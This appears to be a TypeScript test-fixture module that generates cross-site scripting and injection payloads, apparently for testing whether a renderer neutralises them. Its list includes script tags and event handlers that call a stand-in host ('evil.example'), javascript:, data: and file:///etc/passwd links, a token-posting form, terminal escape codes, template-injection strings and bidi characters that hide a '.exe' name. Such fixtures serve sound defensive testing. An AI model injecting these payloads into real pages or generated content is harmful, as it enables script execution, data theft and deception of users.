/** Where every attack wants to load from, lead to or send to. Nobody has this name. */
export const elsewhere = "https://evil.example";

/** The words by which an attack is known to have been shown. */
export function markOf(place: string): string {
  return `«${place}»`;
}

/** For a title, a label or a name of a file: it runs, loads and hides in one short line without a slash. */
export function shortAttack(place: string): string {
  return `${markOf(place)}<img src=x onerror=ran='${place}'>${hiding}`;
}

/** In one line. */
export function lineAttack(place: string): string {
  return `${markOf(place)} ${attacks(place).join(" ")}`;
}

/** With a line for each, so that each may be a block of Markdown or HTML. */
export function textAttack(place: string): string {
  return `${markOf(place)}\n\n${attacks(place).join("\n\n")}\n\n[late]: javascript:ran='${place}'\n`;
}

/** A line of ten megabytes. */
export const endless = "endless".repeat(1_500_000);

/** `gnp.exe` reads backwards, zero widths part words, tags spell what nobody sees. */
const hiding = "a\u202Egnp.exe\u202Cb\u200Bc\u2066d\u2069e\u{E0041}\u{E007F}f\u00ADg\uFEFF";

function attacks(place: string): readonly string[] {
  const run = `ran='${place}'`;
  const there = `${elsewhere}/${encodeURIComponent(place)}`;
  return [
    `<script>${run};fetch("${there}")</script>`,
    `<img src="${there}.png" srcset="${there}.webp 2x" onerror="${run}">`,
    `<svg onload="${run}"><use href="${there}.svg#a"/><foreignObject><body onload="${run}"/></foreignObject></svg>`,
    `<iframe src="${there}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<style>@import url(${there}.css); * { display: none !important; background: url(${there}) }</style>`,
    `<link rel="stylesheet" href="${there}.css"><link rel="prefetch" href="${there}">`,
    `<meta http-equiv="refresh" content="0;url=${there}"><base href="${elsewhere}/"><title>owned</title>`,
    `<form action="${there}"><input name="token" autofocus onfocus="${run}"><button>Approve</button></form>`,
    `<details open ontoggle="${run}"><summary>x</summary></details><video src="${there}" autoplay onerror="${run}"></video>`,
    `<object data="${there}"></object><embed src="${there}"><math href="javascript:${run}">x</math>`,
    `<a href="javascript:${run}" style="position:fixed;inset:0">x</a>`,
    `[run](javascript:${run}) [run](JaVaScRiPt:${run}) [run](&#106;avascript:${run}) [run](\tjavascript:${run}) [run][late]`,
    `[open](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==) [open](vbscript:ran=1) [open](file:///etc/passwd) [open](//evil.example/x) [open](${there} "x\\" onclick=${run}")`,
    `![load](${there}.png) ![load](data:image/svg+xml,<svg/onload=${run}>) ![load][late] [![load](${there}.gif)](${there})`,
    `<javascript:${run}> <${there}> ${there}/bare`,
    `\u001B[31mred\u001B[0m \u001B]0;owned\u0007\u001B]8;;${there}\u001B\\link\u001B]8;;\u001B\\ \u001B[2J\u001B[1A\u001B[8mconcealed\u001B[0m`,
    "`${ran=1}` {{ran=1}} <%= ran=1 %> $(ran) ';ran=1;// \"><b>bold</b>",
    hiding,
  ];
}
